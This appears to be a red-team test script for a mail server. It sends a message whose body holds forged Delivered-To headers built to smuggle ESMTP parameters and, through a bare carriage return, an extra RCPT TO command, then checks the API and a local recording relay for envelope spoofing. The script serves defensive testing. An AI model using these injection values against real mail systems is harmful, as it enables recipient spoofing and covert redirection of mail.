#!/usr/bin/env python3
"""redteam §9: Maildir envelope spoofing after a restart, and RCPT
injection toward the relay on release. The body starts with forged
Delivered-To lines (one with ESMTP parameters, one with a bare CR).
Reports the recipients the API shows after a restart and the RCPT lines
the recording relay got from POST /api/messages/{id}/release.

usage: maildir_envelope.py BINARY"""
import json
import shutil
import sys
import tempfile
import time
import urllib.error
import urllib.request

from d_common import Recorder, bdat, start, stop

BODY = (b"Delivered-To: attacker@evil.example\r\n"
        b"Delivered-To: x@evil.example> NOTIFY=SUCCESS,FAILURE ORCPT=rfc822;spy@evil.example\r\n"
        b"Delivered-To: y@evil.example>\rRCPT TO:<z@evil.example\r\n"
        b"Subject: hostile\r\n\r\nbody\r\n")


def http(port, method, path, body=None):
    req = urllib.request.Request(f"http://127.0.0.1:{port}{path}", method=method,
                                 data=body, headers={"Content-Type": "application/json"})
    try:
        with urllib.request.urlopen(req, timeout=10) as r:
            return r.status, r.read()
    except urllib.error.HTTPError as e:
        return e.code, e.read()


def main():
    binary = sys.argv[1]
    maildir = tempfile.mkdtemp(prefix="mtakit-envelope-")
    rec = Recorder()
    args = ("--maildir", maildir, "--relay", f"smtp://127.0.0.1:{rec.port}")
    try:
        proc, smtp, _ = start(binary, *args)
        code = bdat(smtp, "a@example.com", ["bob@example.com"], BODY)
        time.sleep(0.5)
        stop(proc)
        proc, smtp, port = start(binary, *args)
        try:
            _, listing = http(port, "GET", "/api/messages")
            message = json.loads(listing)["messages"][0]
            print(f"accepted {code}; after restart the API shows to = {message['to']}")
            before = len(rec.commands)
            status, reply = http(port, "POST", f"/api/messages/{message['id']}/release", b"{}")
            time.sleep(0.5)
            rcpts = [c for c in rec.commands[before:] if c.upper().startswith("RCPT")]
            print(f"release -> HTTP {status}; RCPT lines the relay got: {rcpts}")
        finally:
            stop(proc)
    finally:
        rec.close()
        shutil.rmtree(maildir, ignore_errors=True)


if __name__ == "__main__":
    main()
